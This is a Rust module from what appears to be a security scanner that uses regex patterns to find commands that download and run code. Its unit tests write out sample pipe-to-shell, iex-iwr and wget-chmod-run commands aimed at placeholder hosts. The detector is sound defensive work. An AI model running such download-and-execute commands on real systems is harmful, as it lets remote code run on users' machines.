//! The ways a command line downloads and runs in one go.

use crate::hosts;
use crate::text_regex::Regex;
use std::ops::Range;
use std::sync::LazyLock;

/// One command that downloads and runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Form {
    /// The command.
    pub(crate) range: Range<usize>,
    /// Host of the address, lower case.
    pub(crate) host: String,
    /// Path of the address.
    pub(crate) rest: String,
    /// Whether the address was written so that it is no link (`hxxp`, `[.]`).
    pub(crate) defanged: bool,
    /// Whether a whole repository is cloned first.
    pub(crate) clone: bool,
}

/// What fetches, what runs, and what an address looks like.
const FETCH: &str = r"(?:curl|wget|fetch|aria2c|lwp-request|http\s+(?:--?[\w-]+|GET)|xh|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)(?:\.exe)?";
/// Shells run whatever they are fed; interpreters only when no program of their own is named.
const SHELL: &str =
    r"(?:sudo (?:-\w+ )*)?(?:/usr/bin/env )?(?:/(?:usr/)?bin/)?(?:ba|z|da|k|a)?sh\b|(?:iex|Invoke-Expression)\b";
const FED: &str =
    r#"(?:sudo )?(?:python[\d.]*|node|deno|bun|perl|ruby|php|pwsh|powershell|osascript)(?:\s+-)?\s*(?:$|["'`)\n;&|])"#;
const RUN: &str =
    r"(?:sudo (?:-\w+ )*)?(?:/(?:usr/)?bin/)?(?:(?:ba|z|da|k|a)?sh|python[\d.]*|node|perl|ruby|php|pwsh|powershell)";
const ADDRESS: &str = r#"(?:https?|hxxps?|ftp)(?:://|\[:\]//)[^\s'"|)`;&<>]+"#;

/// Each with its cues: a command of it holds one of these, in lower case; nothing is known of the one without.
static FORMS: LazyLock<Vec<(&[&str], Regex)>> = LazyLock::new(|| {
    let forms: [(&[&str], String); 7] = [
        // curl … URL … | sh
        (
            &["|"],
            format!(
                r"(?im)\b{FETCH}\b[^\n|]*?(?P<url>{ADDRESS})[^\n|]*?(?:\\\n[^\n|]*)?\|\s*(?:tee [^\n|]*\|\s*|base64 [^\n|]*\|\s*|gunzip[^\n|]*\|\s*)?(?:{SHELL}|{FED})"
            ),
        ),
        // sh <(curl URL), source <(…), sh -c "$(curl URL)", eval "$(…)", eval `…`
        (
            &["<(", "$(", "`"],
            format!(
                r#"(?im)(?:\b(?:{RUN})\b|\bsource|\beval|(?:^|\s)\.)\s+(?:-\w+\s+)*["']?(?:<\(|\$\(|`)\s*{FETCH}\b[^\n)]*?(?P<url>{ADDRESS})"#
            ),
        ),
        // iex (iwr URL), iex ((New-Object Net.WebClient).DownloadString('URL'))
        (
            &["iex", "invoke-expression"],
            format!(
                r#"(?im)(?:\biex\b|Invoke-Expression)[^\n]{{0,60}}?(?:\b{FETCH}\b|DownloadString)[^\n]*?(?P<url>{ADDRESS})"#
            ),
        ),
        // curl -o F URL && sh F   ·   wget URL; chmod +x F; ./F   (also over a few lines)
        (
            &[],
            format!(
                r#"(?im)\b{FETCH}\b[^\n|;&]*?(?P<url>{ADDRESS})[^\n;&|]*(?:&&|;|\|\||\n)(?:[^\n]*\n){{0,3}}?[^\n]*?(?:\bchmod\s+(?:\+x|[0-7]{{3,4}})\b|(?:^|[\s;&])(?:sudo )?(?:ba|z|da)?sh\s+[^-\s]|(?:^|[;&]|\bsudo)\s*\./\S|(?:^|[\s;&])python[\d.]*\s+[\w./-]+\.py|Start-Process|(?:^|[\s;&])node\s+[\w./-]+\.[cm]?js)"#
            ),
        ),
        // deno run URL, python -c "$(…)" is above; node/npx/uvx/pipx with an address
        (
            &["deno run", "bun", "npx", "uvx", "pipx run", "go run"],
            format!(
                r"(?im)\b(?:deno run(?: -\S+)*|bunx?|npx(?: -\w+| --\w+)*|uvx|pipx run|go run)\s+(?P<url>{ADDRESS})"
            ),
        ),
        // hxxps://host/boot.sh then bash boot.sh
        (
            &[".sh", ".ps1", ".py", ".bat", ".exe", ".js"],
            format!(
                r"(?im)(?P<url>{ADDRESS}\.(?:sh|ps1|py|bat|exe|js))\b[^\n]{{0,40}}?\b(?:then|and|&&|;|,)\s+(?:run|execute|(?:ba|z)?sh|python[\d.]*|powershell|chmod)\b"
            ),
        ),
        // git clone URL … then run something of it
        (
            &["git clone"],
            format!(
                r"(?im)\bgit clone\b[^\n|;&]*?(?P<url>{ADDRESS})[^\n;&|]*(?:&&|;|\n)(?:[^\n]*\n){{0,3}}?[^\n]*?(?:(?:^|[\s;&`])(?:sudo )?(?:ba|z|da)?sh\s+[\w./-]+|(?:^|[\s;&`])\./(?:install|setup|run|bootstrap|configure)\S*|(?:^|[\s;&`])python[\d.]*\s+[\w./-]*(?:install|setup|run|main|bootstrap)\w*\.py)"
            ),
        ),
    ];
    forms.into_iter().filter_map(|(cues, pattern)| Some((cues, Regex::new(&pattern).ok()?))).collect()
});

/// Lines that hold neither of these are not looked at.
static WORDS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"(?i)://|hxxp|\[:\]//").ok());

/// How much text around an address is looked at.
const BEFORE: usize = 400;
const AFTER: usize = 600;
/// A stretch is not merged any further beyond this size.
const LARGE: usize = 16 << 10;

/// Every command of a text that downloads and runs, at most `most`. Linear: each byte near an address is looked at once
/// per form.
pub(crate) fn find(text: &str, most: usize) -> Vec<Form> {
    let mut found: Vec<Form> = Vec::new();
    for window in windows(text) {
        let Some(part) = text.get(window.clone()).filter(|part| runs_something(part)) else { continue };
        let lower = part.to_ascii_lowercase();
        let may_hold = |cues: &[&str]| cues.is_empty() || cues.iter().any(|cue| lower.contains(cue));
        for (_, form) in FORMS.iter().filter(|(cues, _)| may_hold(cues)) {
            let room = most.saturating_sub(found.len());
            let hits = form.captures_iter(part).filter_map(|captures| {
                let (whole, url) = (captures.get(0)?, captures.name("url")?);
                if is_verified(whole.as_str()) {
                    return None;
                }
                let clone = whole.as_str().starts_with("git");
                self::form(window.start + whole.start()..window.start + whole.end(), url.as_str(), clone)
            });
            found.extend(hits.take(room));
        }
    }
    found.sort_by_key(|form| (form.range.start, std::cmp::Reverse(form.range.end)));
    let mut end = 0;
    found.retain(|form| {
        let apart = form.range.start >= end;
        end = end.max(form.range.end);
        apart
    });
    found
}

/// Stretches of text around addresses, merged where they touch, cut where they grow large.
fn windows(text: &str) -> Vec<Range<usize>> {
    let mut windows: Vec<Range<usize>> = Vec::new();
    for word in WORDS.iter().flat_map(|words| words.find_iter(text)) {
        let start = text.floor_char_boundary(word.start().saturating_sub(BEFORE));
        let end = text.floor_char_boundary(word.end() + AFTER);
        let before = windows.last().map_or(0, |last| last.end);
        match windows.last_mut() {
            Some(last) if start <= last.end && last.len() < LARGE => last.end = end,
            _ => windows.push(start.max(text.floor_char_boundary(before.saturating_sub(BEFORE)))..end),
        }
    }
    windows
}

fn form(range: Range<usize>, url: &str, clone: bool) -> Option<Form> {
    let defanged = url.contains("hxxp") || url.contains("[.]") || url.contains("[:]");
    let plain = url.replace("hxxp", "http").replace("[.]", ".").replace("[:]", ":");
    let host = hosts::host_of(&plain)?;
    let rest = plain.split_once("://").and_then(|(_, r)| r.split_once('/')).map_or("", |(_, path)| path).to_owned();
    Some(Form { range, host, rest, defanged, clone })
}

/// Between download and run, a digest or signature is checked.
pub(super) fn is_verified(command: &str) -> bool {
    const CHECKS: [&str; 7] = [
        "sha256sum -c",
        "sha256sum --check",
        "shasum -a 256 -c",
        "sha512sum -c",
        "gpg --verify",
        "cosign verify",
        "minisign -V",
    ];
    CHECKS.iter().any(|check| command.contains(check))
}

fn runs_something(window: &str) -> bool {
    [
        "sh",
        "iex",
        "Invoke-Expression",
        "python",
        "node",
        "deno",
        "perl",
        "ruby",
        "php",
        "chmod",
        "./",
        "npx",
        "uvx",
        "run",
        "source",
        "eval",
    ]
    .iter()
    .any(|word| window.contains(word))
}

#[cfg(test)]
mod tests {
    use super::find;

    fn check(text: &str, hosts: &[&str]) {
        let found: Vec<String> = find(text, 10).into_iter().map(|f| f.host).collect();
        assert_eq!(found, hosts, "{text}");
    }

    #[test]
    fn one_line_forms() {
        check("curl -fsSL https://a.invalid/x.sh | bash", &["a.invalid"]);
        check("wget -qO- https://a.invalid/x | sudo sh", &["a.invalid"]);
        check("bash <(curl -s https://a.invalid/x)", &["a.invalid"]);
        check("sh -c \"$(curl -fsSL https://a.invalid/x)\"", &["a.invalid"]);
        check("eval \"$(wget -O - http://203.0.113.9/x)\"", &["203.0.113.9"]);
        check("iex (iwr https://a.invalid/i.ps1)", &["a.invalid"]);
        check("irm https://a.invalid | iex", &["a.invalid"]);
        check("curl https://a.invalid/p.py | python3 -", &["a.invalid"]);
        check("deno run -A https://a.invalid/m.ts", &["a.invalid"]);
        check("hxxps://evil[.]invalid/boot.sh then bash boot.sh", &["evil.invalid"]);
    }

    #[test]
    fn several_lines() {
        check("curl -sLO https://a.invalid/patch1\nbash patch1\n", &["a.invalid"]);
        check("wget https://a.invalid/tool\nchmod +x tool\n./tool\n", &["a.invalid"]);
        check("curl -L https://a.invalid/x \\\n  | sh", &["a.invalid"]);
        check("git clone https://a.invalid/repo\npython installer.py\n", &["a.invalid"]);
    }

    #[test]
    fn downloads_that_are_only_read() {
        check("curl https://api.example.com/items | jq .", &[]);
        check("curl -O https://a.invalid/a.tar.gz and check the digest", &[]);
        check("See https://a.invalid/docs and run `npm test`.", &[]);
        check("curl -s https://api.example.com/items | python3 -m json.tool", &[]);
        check("curl -s https://a.invalid/x | python3 -c \"import json\"", &[]);
        check("npx lighthouse https://a.invalid --view", &[]);
        check("curl -sf https://a.invalid/health || exit 1", &[]);
        check("git clone https://github.com/o/r.git\ncd r\nnpm test\n", &[]);
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_survived(text in "(curl|https://|\\PC|\\| sh|\n){0,60}") {
            for form in find(&text, 10) {
                proptest::prop_assert!(text.get(form.range).is_some());
            }
        }
    }
}
